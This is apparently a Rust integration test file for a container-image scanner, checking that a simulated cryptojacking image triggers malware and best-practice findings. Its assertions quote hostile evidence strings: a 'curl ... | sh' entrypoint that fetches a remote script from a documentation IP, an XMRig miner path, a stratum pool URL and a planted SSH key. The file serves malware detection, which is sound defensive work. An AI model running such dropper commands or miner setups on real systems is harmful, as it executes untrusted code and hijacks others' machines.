//! Best-practice checks and malware indicators through the whole inspection: an image built in
//! code like the cryptojacking images of public registries, the clean sample, the ignore file,
//! secret placeholders, and the CLI's exit 8.

mod support;
use porthole::fixture::{self, Compress};
use porthole::ignore::IgnoreList;
use porthole::inspect::Options;
use porthole::report::{BestPractice, ImageReport};
use std::process::Command;

fn practices(img: &ImageReport) -> Vec<&str> {
    img.best_practices.iter().map(|b| b.id.as_str()).collect()
}

fn finding<'a>(img: &'a ImageReport, id: &str) -> &'a BestPractice {
    img.best_practices
        .iter()
        .find(|b| b.id == id)
        .unwrap_or_else(|| panic!("{id} not raised: {:?}", practices(img)))
}

fn has(b: &BestPractice, needle: &str) -> bool {
    b.evidence.iter().any(|e| e.contains(needle))
}

fn cryptojacked() -> Vec<u8> {
    fixture::oci_archive(&[fixture::cryptojacked("example.com/pool/worker:latest")], true)
}

#[test]
fn a_cryptojacking_image_raises_the_malware_indicators_with_their_evidence() {
    let bytes = cryptojacked();
    // Read at random and as a one-pass stream in small pieces: the same findings.
    for r in [support::inspect(&bytes), support::inspect_streamed(&bytes, 4093)] {
        let img = &r.images[0];
        let ids = practices(img);
        for id in [
            "CIS-DI-0001",
            "CIS-DI-0005",
            "CIS-DI-0006",
            "CIS-DI-0007",
            "CIS-DI-0008",
            "DKL-DI-0002",
            "DKL-DI-0006",
            "DKL-DI-0005",
            "DKL-LI-0001",
            "DKL-LI-0002",
            "DKL-LI-0003",
            "PH-DI-0001",
            "PH-DI-0002",
            "PH-DI-0004",
            "PH-DI-0005",
            "PH-MW-0001",
            "PH-MW-0002",
            "PH-MW-0003",
            "PH-MW-0004",
            "PH-MW-0005",
            "PH-MW-0007",
        ] {
            assert!(ids.contains(&id), "{id} missing from {ids:?}");
        }
        // Rules that do not apply stay quiet: the base is ADDed as a root filesystem, no sudo,
        // no upgrade, no apk, no reverse shell, no real secret.
        for id in [
            "CIS-DI-0009",
            "CIS-DI-0010",
            "DKL-DI-0001",
            "DKL-DI-0003",
            "DKL-DI-0004",
            "PH-MW-0006",
        ] {
            assert!(!ids.contains(&id), "{id} raised: {ids:?}");
        }
        // Rule order, as in rules.toml.
        assert_eq!(ids.first(), Some(&"CIS-DI-0001"));
        assert!(ids.windows(2).all(|w| w[0] != w[1]));

        let miner = finding(img, "PH-MW-0001");
        assert_eq!(miner.severity.as_str(), "critical");
        assert!(has(miner, "/opt/.cache/kswapd0 (layer 1): XMRig/6.21"), "{miner:?}");
        let stratum = finding(img, "PH-MW-0002");
        assert!(
            has(
                stratum,
                "/opt/.cache/start.sh (layer 1, line 3): stratum+tcp://198.51.100.23:3333"
            ),
            "{stratum:?}"
        );
        assert!(has(finding(img, "PH-MW-0003"), "pool.supportxmr.com"));
        assert!(has(
            finding(img, "PH-MW-0004"),
            "/opt/.cache/config.json (layer 1, line 3)"
        ));
        let dropper = finding(img, "PH-MW-0005");
        assert!(
            has(
                dropper,
                "Entrypoint/Cmd: /bin/sh -c curl -fsSL http://198.51.100.23/x.sh | sh"
            ),
            "{dropper:?}"
        );
        // The planted key was deleted by the last layer: it still ships, and the evidence says so.
        let persistence = finding(img, "PH-MW-0007");
        assert!(
            has(
                persistence,
                "/root/.ssh/authorized_keys (31 bytes, layer 1, hidden by a later layer but shipped)"
            ),
            "{persistence:?}"
        );
        assert!(has(
            finding(img, "DKL-LI-0001"),
            "/etc/shadow: user root has an empty password"
        ));
        assert!(has(
            finding(img, "DKL-LI-0002"),
            "/etc/passwd: uid 0 is shared by root, toor"
        ));
        assert!(has(finding(img, "CIS-DI-0008"), "/bin/su mode 4755 (layer 0)"));
        assert!(has(finding(img, "CIS-DI-0007"), "history 2: /bin/sh -c apt-get update"));
        assert!(has(finding(img, "PH-DI-0001"), "/opt/.cache/notes.txt mode 0666"));
        assert!(has(finding(img, "DKL-DI-0002"), "VOLUME /proc"));
        assert!(has(finding(img, "PH-DI-0004"), "EXPOSE 22/tcp"));
        assert!(has(finding(img, "DKL-DI-0006"), "tag example.com/pool/worker:latest"));
        let lists = finding(img, "DKL-DI-0005");
        assert_eq!(lists.evidence[0], "1 file, 4096 bytes", "the lock file is not a list");
        // The placeholder is listed apart, the vendor's example nowhere, and neither is a secret.
        assert!(img.secrets.is_empty(), "{:?}", img.secrets);
        assert_eq!(img.secret_placeholders.len(), 1, "{:?}", img.secret_placeholders);
        assert_eq!(img.secret_placeholders[0].rule, "aws-access-key-id");
        assert_eq!(img.secret_placeholders[0].path.as_deref(), Some("/srv/app.env"));
        assert_eq!(img.secret_placeholders[0].line, Some(1));
    }
}

#[test]
fn the_sample_image_raises_no_malware_indicator_and_only_what_it_shows() {
    let r = support::inspect(&fixture::oci_archive(
        &[fixture::sample("example.com/a:1", Compress::Gzip)],
        true,
    ));
    let ids = practices(&r.images[0]);
    assert_eq!(
        ids,
        ["CIS-DI-0005", "CIS-DI-0006", "CIS-DI-0008", "DKL-LI-0003", "PH-DI-0005"]
    );
    assert!(r.images[0].secret_placeholders.is_empty());
}

#[test]
fn the_ignore_file_leaves_out_rules_and_evidence_and_counts_them() {
    let ignore = IgnoreList::parse(
        "# accepted\nCIS-DI-0006\nCIS-DI-0008 /bin/su   # setuid by design\nPH-MW-0003 /nowhere/**\ndkl-di-0006\n",
    )
    .unwrap();
    let mut opts = Options::default();
    opts.vuln_policy.ignore = ignore;
    let r = support::inspect_with(&cryptojacked(), &opts);
    let img = &r.images[0];
    let ids = practices(img);
    assert!(!ids.contains(&"CIS-DI-0006") && !ids.contains(&"CIS-DI-0008") && !ids.contains(&"DKL-DI-0006"));
    assert!(
        ids.contains(&"PH-MW-0003"),
        "a glob that names no evidence leaves the finding"
    );
    let s: Vec<(&str, usize, bool, &str)> = img
        .best_practices_suppressed
        .iter()
        .map(|s| (s.id.as_str(), s.evidence, s.whole, s.reason.as_str()))
        .collect();
    assert_eq!(
        s,
        [
            ("CIS-DI-0006", 1, true, "ignore file line 2: CIS-DI-0006"),
            ("CIS-DI-0008", 1, true, "ignore file line 3: CIS-DI-0008"),
            ("DKL-DI-0006", 1, true, "ignore file line 5: dkl-di-0006"),
        ]
    );
}

#[test]
fn a_glob_leaves_out_part_of_the_evidence() {
    let mut opts = Options::default();
    opts.vuln_policy.ignore =
        IgnoreList::parse("DKL-LI-0003 /opt/.cache/*.json\nDKL-DI-0005 /var/lib/apt/lists/*\n").unwrap();
    let r = support::inspect_with(&cryptojacked(), &opts);
    let img = &r.images[0];
    let junk = finding(img, "DKL-LI-0003");
    assert!(!has(junk, "/opt/.cache/config.json") && has(junk, "/opt/.cache/start.sh"));
    // Every file of a files rule left out: its count line goes too, and the whole finding.
    assert!(!practices(img).contains(&"DKL-DI-0005"));
    let s: Vec<(&str, usize, bool)> = img
        .best_practices_suppressed
        .iter()
        .map(|s| (s.id.as_str(), s.evidence, s.whole))
        .collect();
    assert_eq!(s, [("DKL-DI-0005", 2, true), ("DKL-LI-0003", 1, false)]);
}

fn porthole(args: &[&str]) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_porthole"))
        .args(args)
        .output()
        .expect("porthole runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
    )
}

#[test]
fn fail_on_check_exits_8_after_the_other_codes() {
    let dir = std::env::temp_dir().join(format!("porthole-practices-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let bad = dir.join("bad.tar");
    std::fs::write(&bad, cryptojacked()).unwrap();
    let clean = dir.join("clean.tar");
    std::fs::write(
        &clean,
        fixture::oci_archive(&[fixture::sample("example.com/a:1", Compress::Gzip)], true),
    )
    .unwrap();
    let leaky = dir.join("leaky.tar");
    let mut spec = fixture::sample("example.com/a:2", Compress::Gzip);
    spec.env
        .push("GITHUB_TOKEN=ghp_fDNxSIvPZZ63fFKcZjR4I0b3jRtaWr4Y9OJF".into());
    std::fs::write(&leaky, fixture::oci_archive(&[spec], true)).unwrap();
    let leaky = leaky.to_str().unwrap();
    let ignore = dir.join("ignore");
    std::fs::write(&ignore, "CIS-DI-0008\n").unwrap();
    let (bad, clean, ignore) = (bad.to_str().unwrap(), clean.to_str().unwrap(), ignore.to_str().unwrap());

    let (code, out) = porthole(&["inspect", bad, "--fail-on-check"]);
    assert_eq!(code, 8);
    assert!(out.contains("critical PH-MW-0001"), "{out}");
    assert!(out.contains("/opt/.cache/kswapd0 (layer 1): XMRig/6.21"), "{out}");
    assert_eq!(porthole(&["inspect", bad, "--fail-on-check=critical"]).0, 8);
    // The clean sample has only low findings.
    assert_eq!(porthole(&["inspect", clean, "--fail-on-check"]).0, 0);
    assert_eq!(porthole(&["inspect", clean, "--fail-on-check=low"]).0, 8);
    // Ignoring its one setuid finding is not enough for `low`, and is counted.
    let (code, out) = porthole(&["inspect", clean, "--fail-on-check=low", "--ignore", ignore]);
    assert_eq!(code, 8);
    assert!(out.contains("1 ignored"), "{out}");
    // 7 and 5 come before 8.
    assert_eq!(
        porthole(&["inspect", bad, "--fail-on-check", "--require-signature"]).0,
        7
    );
    assert_eq!(
        porthole(&["inspect", bad, "--fail-on-check", "--fail-on-secrets=low"]).0,
        8,
        "no real secret"
    );
    assert_eq!(
        porthole(&["inspect", leaky, "--fail-on-check=low"]).0,
        8,
        "CIS-DI-0010 and more"
    );
    assert_eq!(
        porthole(&["inspect", leaky, "--fail-on-check=low", "--fail-on-secrets"]).0,
        5
    );
    assert_eq!(porthole(&["inspect", bad, "--fail-on-check=bogus"]).0, 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_config_value_of_an_unexpected_shape_is_judged_not_fatal() {
    let check = |health: serde_json::Value, volumes: serde_json::Value| {
        let mut spec = fixture::sample("example.com/a:1", Compress::Gzip);
        spec.run_config = vec![("Healthcheck".into(), health), ("Volumes".into(), volumes)];
        let r = support::inspect(&fixture::oci_archive(&[spec], true));
        assert_eq!(r.images.len(), 1, "the image is still described");
        assert!(r.images[0].errors.is_empty(), "{:?}", r.images[0].errors);
        practices(&r.images[0])
            .into_iter()
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    let ids = check(serde_json::json!("yes"), serde_json::json!(["/proc"]));
    assert!(ids.contains(&"CIS-DI-0006".to_string()) && !ids.contains(&"DKL-DI-0002".to_string()));
    let ids = check(
        serde_json::json!({"Test": ["CMD-SHELL", "curl -f http://localhost/ || exit 1"]}),
        serde_json::json!({"/sys/fs/cgroup": {}}),
    );
    assert!(!ids.contains(&"CIS-DI-0006".to_string()) && ids.contains(&"DKL-DI-0002".to_string()));
    let ids = check(serde_json::json!({"Test": ["NONE"]}), serde_json::json!(null));
    assert!(ids.contains(&"CIS-DI-0006".to_string()));
}

/// `--sarif` carries the best-practice findings: a malware indicator is an error whose rule is
/// tagged malware, with the rationale and fix as its description and help.
#[test]
fn sarif_carries_the_findings_with_their_rules() {
    let dir = std::env::temp_dir().join(format!("porthole-practices-sarif-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let bad = dir.join("bad.tar");
    std::fs::write(&bad, cryptojacked()).unwrap();
    let sarif = dir.join("out.sarif");
    let (code, _) = porthole(&["inspect", bad.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()]);
    assert_eq!(code, 0);
    let s: serde_json::Value = serde_json::from_slice(&std::fs::read(&sarif).unwrap()).unwrap();
    let run = &s["runs"][0];
    let r = support::inspect(&cryptojacked());
    let want = &r.images[0].best_practices;
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), want.len() + r.images[0].secrets.len());
    let miner = results
        .iter()
        .find(|x| x["ruleId"] == "PH-MW-0002")
        .expect("the stratum URL");
    assert_eq!(miner["level"], "error");
    assert!(
        miner["message"]["text"].as_str().unwrap().contains("stratum"),
        "{miner}"
    );
    let rule = run["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["id"] == "PH-MW-0002")
        .unwrap();
    assert_eq!(rule["properties"]["tags"][1], "malware");
    assert_eq!(rule["help"]["text"], finding(&r.images[0], "PH-MW-0002").fix.as_str());
}

/// The scan's caps are limits: with no content matches kept the content rules find nothing,
/// with no account bytes kept the account rules have nothing to read; the rest still apply.
#[test]
fn the_scans_caps_are_limits() {
    let with = |set: &dyn Fn(&mut porthole::Limits)| {
        let mut opts = porthole::inspect::Options::default();
        set(&mut opts.limits);
        let r = support::inspect_with(&cryptojacked(), &opts);
        practices(&r.images[0])
            .into_iter()
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    let all = with(&|_| {});
    assert!(all.contains(&"PH-MW-0002".to_string()) && all.contains(&"DKL-LI-0001".to_string()));
    let none = with(&|l| l.content_matches = 0);
    assert!(!none.contains(&"PH-MW-0002".to_string()), "{none:?}");
    assert!(none.contains(&"DKL-LI-0001".to_string()));
    let blind = with(&|l| l.account_file_bytes = 0);
    assert!(!blind.contains(&"DKL-LI-0001".to_string()), "{blind:?}");
    assert!(blind.contains(&"PH-MW-0002".to_string()));
}
